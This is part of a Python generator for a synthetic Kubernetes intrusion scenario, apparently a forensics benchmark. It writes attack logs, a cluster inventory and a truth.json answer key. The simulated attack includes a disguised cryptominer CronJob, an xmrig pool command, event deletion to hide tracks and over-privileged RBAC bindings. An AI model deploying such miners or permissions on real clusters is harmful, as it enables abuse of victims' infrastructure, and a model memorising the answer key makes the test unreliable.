        job = f"log-rotate-{int((at(*hh)).timestamp() // 60)}"
        miner = s.pod("kube-system", job, "Job", "node-3", "default", "docker.io/evilcorp/xmr:latest", at(*hh, 1))
        s.exec_(
            at(*hh, 5),
            miner,
            "/usr/local/bin/xmrig",
            f"-o stratum+tcp://{POOL}:3333 --donate-level 1",
            parent="/usr/bin/containerd-shim",
            step="mining",
        )
        for j in range(3):
            s.hubble(at(*hh, 10 + 60 * j), miner, POOL, 3333, step="mining")
            s.vpc(at(*hh, 10 + 60 * j), NODES[miner.node][0], POOL, 45000 + j, 3333, pkt_src=miner.ip, step="mining")
        s.delete_pod(miner, at(*hh, 600), "system:serviceaccount:kube-system:job-controller")
    # ---------------------------------------------------------------- 12 covering tracks
    s.step(
        "cover-tracks",
        "Events deleted and the privileged pod removed",
        "Installation",
        "Defense Evasion",
        "MS-TA9022",
        "T1070",
        at(3, 0),
        at(3, 2),
        service_account="payments/payments-api",
        namespace="kube-system",
    )
    s.audit(
        at(3, 0),
        pa,
        "deletecollection",
        "/api/v1/namespaces/kube-system/events",
        resource="events",
        namespace="kube-system",
        source_ip=web_a.ip,
        ua=kubectl,
        extra=extra_api,
        step="cover-tracks",
    )
    s.delete_pod(evil, at(3, 1), pa, source_ip=web_a.ip, step="cover-tracks")
    # ---------------------------------------------------------------- traps: the web pod goes, its IP is reused
    s.delete_pod(web_a, at(3, 10), "system:serviceaccount:kube-system:replicaset-controller")
    reuse = s.pod(
        "shop", "cart", "Deployment", "node-1", "cart", "registry.corp/shop/cart:2.4.1", at(3, 20), ip=web_a.ip
    )
    for k in range(4):
        s.hubble(at(3, 30 + 10 * k), reuse, api, 8443)
        s.vpc(
            at(3, 30 + 10 * k),
            NODES[reuse.node][0],
            NODES[api.node][0],
            40100 + k,
            8443,
            pkt_src=reuse.ip,
            pkt_dst=api.ip,
        )
    s.truth["ip_attribution"] = [
        {
            "ip": web_a.ip,
            "time": _iso(at(2, 10, 1)),
            "namespace": "shop",
            "pod": web_a.name,
            "note": "patient zero during the attack",
        },
        {
            "ip": web_a.ip,
            "time": _iso(at(3, 30)),
            "namespace": "shop",
            "pod": reuse.name,
            "note": "the same IP, reused by an innocent pod",
        },
        {
            "ip": evil.ip,
            "time": _iso(at(2, 40)),
            "namespace": "kube-system",
            "pod": evil.name,
            "note": "deleted before the inventory dump",
        },
        {"ip": ATTACKER, "time": _iso(at(2, 0)), "namespace": None, "pod": None, "note": "external"},
    ]
    s.truth["container_ids"].append(
        {"container_id": web_a.container_id, "namespace": "shop", "pod": web_a.name, "note": "full id"}
    )
    s.truth["patient_zero"] = {
        "namespace": "shop",
        "pod": web_a.name,
        "pod_uid": web_a.uid,
        "ip": web_a.ip,
        "workload": "Deployment/web",
    }
    s.truth["lateral_path"] = [
        {"kind": "ip", "id": ATTACKER},
        {"kind": "pod", "id": f"shop/{web_a.name}"},
        {"kind": "service_account", "id": "shop/web"},
        {"kind": "pod", "id": f"payments/{api.name}"},
        {"kind": "service_account", "id": "payments/payments-api"},
        {"kind": "pod", "id": f"kube-system/{evil.name}"},
        {"kind": "node", "id": evil.node},
    ]
    s.truth["deleted_before_dump"] = [
        f"{p.namespace}/{p.name}" for p in s.pods if p.deleted is not None and p.deleted < T0 + DUMP_AT
    ]
    s.api = api  # its ReplicaSet goes into the inventory


def _write(s: _Scenario, root: Path) -> Path:
    root.mkdir(parents=True, exist_ok=True)
    evidence: dict[str, Any] = {}
    for name, events in sorted(s.out.files.items()):
        events.sort(key=lambda e: e[0])
        lines: list[str] = []
        if name.endswith(".log") and name.startswith("flows/vpc"):
            lines.append(
                "version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action "
                "log-status vpc-id pkt-srcaddr pkt-dstaddr flow-direction"
            )
        for _t, payload, step in events:
            lines.append(
                payload if isinstance(payload, str) else json.dumps(payload, separators=(",", ":"), sort_keys=False)
            )
            if step:
                _evidence(s, step, name, len(lines))
        evidence[name] = lines
    # two malformed records, recorded as such
    audit = evidence["audit/kube-apiserver-audit.log"]
    cut_at = len(audit) // 3
    audit.insert(cut_at, audit[cut_at][:57])
    s.truth["malformed"].append(
        {"file": "audit/kube-apiserver-audit.log", "line": cut_at + 1, "reason": "truncated JSON line"}
    )
    _shift_evidence(s, "audit/kube-apiserver-audit.log", cut_at + 1)
    falco = evidence["runtime/falco-alerts.jsonl"]
    falco.insert(1, "Tue Mar 10 08:00:01 2026: Falco initialized with configuration file /etc/falco/falco.yaml")
    s.truth["malformed"].append(
        {"file": "runtime/falco-alerts.jsonl", "line": 2, "reason": "a plain-text log line among the JSON alerts"}
    )
    _shift_evidence(s, "runtime/falco-alerts.jsonl", 2)
    # an EKS CloudWatch export of the last hour of the audit log: the cloud-wrapped variant
    last_hour = [
        ln
        for ln in audit
        if ln.startswith("{")
        and '"requestReceivedTimestamp":"' + (T0 + dt.timedelta(hours=5)).strftime("%Y-%m-%dT%H") in ln
    ]
    page = {
        "events": [
            {
                "logStreamName": "kube-apiserver-audit-0f1e2d3c4b5a",
                "timestamp": 0,
                "message": ln,
                "ingestionTime": 0,
                "eventId": str(i),
            }
            for i, ln in enumerate(last_hour)
        ],
        "searchedLogStreams": [],
    }
    for name, lines in evidence.items():
        data = ("\n".join(lines) + "\n").encode()
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if name.startswith("audit/"):
            (root / (name + ".gz")).write_bytes(gzip.compress(data, mtime=0))
        else:
            path.write_bytes(data)
    (root / "audit" / "eks-cloudwatch-last-hour.json").write_text(json.dumps(page, indent=1) + "\n")
    _write_inventory(s, root / "inventory")
    s.truth["files"] = {k + (".gz" if k.startswith("audit/") else ""): len(v) for k, v in evidence.items()}
    s.truth["cluster"] = CLUSTER
    s.truth["start"], s.truth["end"], s.truth["inventory_dump"] = _iso(T0), _iso(T0 + END), _iso(T0 + DUMP_AT)
    truth = root / "truth.json"
    truth.write_text(json.dumps(s.truth, indent=1, sort_keys=True) + "\n")
    return truth


def _evidence(s: _Scenario, step: str, file: str, line: int) -> None:
    for st in s.truth["steps"]:
        if st["id"] == step:
            st["evidence"].append({"file": file + (".gz" if file.startswith("audit/") else ""), "line": line})


def _shift_evidence(s: _Scenario, file: str, inserted: int) -> None:
    for st in s.truth["steps"]:
        for ev in st["evidence"]:
            if ev["file"].removesuffix(".gz") == file and ev["line"] >= inserted:
                ev["line"] += 1


def _write_inventory(s: _Scenario, root: Path) -> None:
    root.mkdir(parents=True, exist_ok=True)
    alive = [p for p in s.pods if p.deleted is None or p.deleted > T0 + DUMP_AT]
    pods = {
        "kind": "PodList",
        "apiVersion": "v1",
        "metadata": {"resourceVersion": "918273"},
        "items": [p.object() for p in alive],
    }
    (root / "pods.json").write_text(json.dumps(pods, indent=1) + "\n")
    nodes = {
        "kind": "NodeList",
        "apiVersion": "v1",
        "metadata": {},
        "items": [
            {
                "apiVersion": "v1",
                "kind": "Node",
                "metadata": {"name": n, "uid": _uuid(n), "creationTimestamp": _iso(T0 - dt.timedelta(days=30), 0)},
                "spec": {"podCIDR": cidr + "0/24", "podCIDRs": [cidr + "0/24"]},
                "status": {
                    "addresses": [{"type": "InternalIP", "address": ip}],
                    "nodeInfo": {"kubeletVersion": "v1.30.4"},
                },
            }
            for n, (ip, cidr) in NODES.items()
        ],
    }
    (root / "nodes.json").write_text(json.dumps(nodes, indent=1) + "\n")
    rs = {"apiVersion": "apps/v1", "kind": "ReplicaSet"}
    rbac: dict[str, Any] = {
        "kind": "List",
        "apiVersion": "v1",
        "metadata": {},
        "items": [
            {
                "apiVersion": "rbac.authorization.k8s.io/v1",
                "kind": "Role",
                "metadata": {"name": "web-debug", "namespace": "payments", "uid": _uuid("r1")},
                "rules": [
                    {"apiGroups": [""], "resources": ["pods", "pods/exec"], "verbs": ["get", "list", "create"]},
                    {
                        "apiGroups": [""],
                        "resources": ["secrets"],
                        "verbs": ["get"],
                        "resourceNames": ["db-credentials"],
                    },
                ],
            },
            {
                "apiVersion": "rbac.authorization.k8s.io/v1",
                "kind": "RoleBinding",
                "metadata": {"name": "web-debug", "namespace": "payments", "uid": _uuid("rb1")},
                "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "web-debug"},
                "subjects": [{"kind": "ServiceAccount", "name": "web", "namespace": "shop"}],
            },
            {
                "apiVersion": "rbac.authorization.k8s.io/v1",
                "kind": "ClusterRole",
                "metadata": {"name": "ops-deployer", "uid": _uuid("cr1")},
                "rules": [
                    {
                        "apiGroups": ["", "batch", "apps"],
                        "resources": ["pods", "cronjobs", "deployments"],
                        "verbs": ["create", "delete", "get", "list"],
                    },
                    {
                        "apiGroups": ["rbac.authorization.k8s.io"],
                        "resources": ["clusterrolebindings"],
                        "verbs": ["create"],
                    },
                    {"apiGroups": [""], "resources": ["events"], "verbs": ["deletecollection"]},
                ],
            },
            {
                "apiVersion": "rbac.authorization.k8s.io/v1",
                "kind": "ClusterRoleBinding",
                "metadata": {"name": "payments-api-deployer", "uid": _uuid("crb1")},
                "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "ops-deployer"},
                "subjects": [{"kind": "ServiceAccount", "name": "payments-api", "namespace": "payments"}],
            },
            {
                "apiVersion": "rbac.authorization.k8s.io/v1",
                "kind": "ClusterRoleBinding",
                "metadata": {"name": "system:monitoring-agents", "uid": _uuid("crb2")},
                "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
                "subjects": [{"kind": "ServiceAccount", "name": "default", "namespace": "kube-system"}],
            },
            {
                **rs,
                "metadata": {
                    "name": s.api.owner[1] if s.api and s.api.owner else "api",
                    "namespace": "payments",
                    "uid": _uuid("rs-api"),
                    "ownerReferences": [
                        {
                            "apiVersion": "apps/v1",
                            "kind": "Deployment",
                            "name": "api",
                            "uid": _uuid("api"),
                            "controller": True,
                        }
                    ],
                },
                "spec": {
                    "replicas": 1,
                    "selector": {"matchLabels": {"app": "api"}},
                    "template": {
                        "spec": {
                            "serviceAccountName": "payments-api",
                            "containers": [{"name": "api", "image": "registry.corp/payments/api:5.1.0"}],
                        }
                    },
                },
            },
            {
                "apiVersion": "v1",
                "kind": "ServiceAccount",
                "metadata": {"name": "web", "namespace": "shop", "uid": _uuid("sa-web")},
            },
            {
                "apiVersion": "v1",
                "kind": "ServiceAccount",
                "metadata": {"name": "payments-api", "namespace": "payments", "uid": _uuid("sa-api")},
            },
            {
                "apiVersion": "v1",
                "kind": "Service",
                "metadata": {"name": "web", "namespace": "shop", "uid": _uuid("svc-web")},
                "spec": {
                    "type": "NodePort",
                    "clusterIP": "10.96.20.10",
                    "ports": [{"port": 80, "targetPort": 8080, "nodePort": 30080}],
                    "selector": {"app": "web"},
                },
            },
            {
                "apiVersion": "v1",
                "kind": "Secret",
                "metadata": {"name": "db-credentials", "namespace": "payments", "uid": _uuid("sec")},
                "type": "Opaque",
                "data": {"password": "c2FtcGxlLW5vdC1hLXJlYWwtc2VjcmV0"},
            },
            {
                "apiVersion": "batch/v1",
                "kind": "CronJob",
                "metadata": {"name": "log-rotate", "namespace": "kube-system", "uid": _uuid("cj")},
                "spec": {
                    "schedule": "*/30 * * * *",
                    "jobTemplate": {
                        "spec": {
                            "template": {
                                "spec": {"containers": [{"name": "rotate", "image": "docker.io/evilcorp/xmr:latest"}]}
                            }
                        }
                    },
                },
            },
        ],
    }
    for item in rbac["items"]:
        item["metadata"].setdefault("creationTimestamp", _iso(T0 - dt.timedelta(days=20), 0))
    (root / "cluster-objects.json").write_text(json.dumps(rbac, indent=1) + "\n")


__all__ = ["write_sample_evidence"]
